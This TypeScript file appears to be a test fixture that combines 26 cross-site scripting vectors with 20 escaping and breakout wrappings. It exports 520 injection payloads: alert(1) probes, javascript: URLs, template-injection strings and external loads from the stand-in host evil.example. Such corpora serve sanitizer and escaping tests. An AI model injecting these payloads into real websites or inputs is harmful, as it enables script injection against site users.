/** Words that try to be more than words: what would run if a page took them for markup, code or an address. */

/** What is to run. */
const VECTORS = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<body onload=alert(1)>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<a href="javascript:alert(1)" autofocus onfocus=alert(1)>x</a>',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<form action="javascript:alert(1)"><input type=submit autofocus onfocus=alert(1)></form>',
  '<math><mtext><img src=x onerror=alert(1)></mtext></math>',
  '<style>@import "https://evil.example/x.css";</style>',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<img src="https://evil.example/pixel.gif">',
  '<marquee onstart=alert(1)>x</marquee>',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  'javascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
] as const;

/** Where it might stand, and how it might be written. */
const WRAPPINGS: readonly ((vector: string) => string)[] = [
  (vector) => vector,
  (vector) => `">${vector}`,
  (vector) => `'>${vector}`,
  (vector) => `" onmouseover="alert(1)" x="${vector}`,
  (vector) => `' onfocus='alert(1)' autofocus x='${vector}`,
  (vector) => `</td></tr></table>${vector}`,
  (vector) => `</bdi>${vector}`,
  (vector) => `</script>${vector}`,
  (vector) => `</style>${vector}`,
  (vector) => `</title>${vector}`,
  (vector) => `</textarea>${vector}`,
  (vector) => `-->${vector}<!--`,
  (vector) => `]]>${vector}`,
  (vector) => vector.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (vector) => vector.replaceAll('<', '&#60;'),
  (vector) => vector.replaceAll('script', 'ScRiPt').replaceAll('on', 'oN'),
  (vector) => `\u202e${vector}`,
  (vector) => `\u0000${vector}`,
  (vector) => `${vector}\n\r${vector}`,
  (vector) => `\${${vector}}{{constructor.constructor('alert(1)')()}}`,
];

/** All of them, each different: 520. */
export const PAYLOADS: readonly string[] = WRAPPINGS.flatMap((wrap, i) =>
  VECTORS.map((vector, j) => `${i}.${j} ${wrap(vector)}`),
);

/** Without a number in front, for places where the first sign counts. */
export const BARE_PAYLOADS: readonly string[] = WRAPPINGS.flatMap((wrap) =>
  VECTORS.map((vector) => wrap(vector)),
);
